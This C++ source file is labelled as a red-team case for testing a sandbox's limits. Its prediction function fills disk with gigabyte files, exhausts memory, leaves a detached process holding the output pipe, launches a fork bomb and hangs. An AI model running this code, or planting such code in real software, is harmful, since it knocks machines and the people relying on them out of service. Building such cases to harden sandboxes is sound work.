// Red team, class 6: fork without bound, allocate without bound, write a gigabyte file, leave a
// detached grandchild holding the output pipe, then hang.
#include "perceptron.hpp"
#include "nn/error.hpp"
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <new>
#include <unistd.h>

namespace {
void havoc() {
    if (fork() == 0) {                      // detached grandchild holding stdout/stderr
        setsid();
        if (fork() == 0) { for (;;) pause(); }
        _exit(0);
    }
    std::signal(SIGXFSZ, SIG_IGN);
    for (const char* path : {"big.bin", "/tmp/big.bin"}) {   // a gigabyte file
        if (FILE* f = std::fopen(path, "wb")) {
            static char block[1 << 20];
            std::memset(block, 'x', sizeof block);
            for (int i = 0; i < 1024; ++i)
                if (std::fwrite(block, 1, sizeof block, f) != sizeof block) break;
            std::fclose(f);
        }
    }
    for (size_t total = 0; total < (size_t(64) << 30); total += size_t(256) << 20) {  // memory
        char* p = static_cast<char*>(std::malloc(size_t(256) << 20));
        if (!p) break;
        std::memset(p, 1, size_t(256) << 20);
    }
    for (int i = 0; i < 100000; ++i) {      // fork bomb (bounded here only by the sandbox)
        pid_t c = fork();
        if (c == 0) { for (;;) pause(); }
        if (c < 0) break;
    }
    for (;;) {}                              // and hang
}
}  // namespace

namespace nn {
int perceptron_predict(const Perceptron&, const arma::vec&) { havoc(); throw NotImplemented("perceptron_predict"); }
bool perceptron_update(Perceptron&, const arma::vec&, int, double) { throw NotImplemented("perceptron_update"); }
PerceptronRun perceptron_train(Perceptron&, const arma::mat&, const arma::ivec&, double, int) {
    throw NotImplemented("perceptron_train");
}
}  // namespace nn
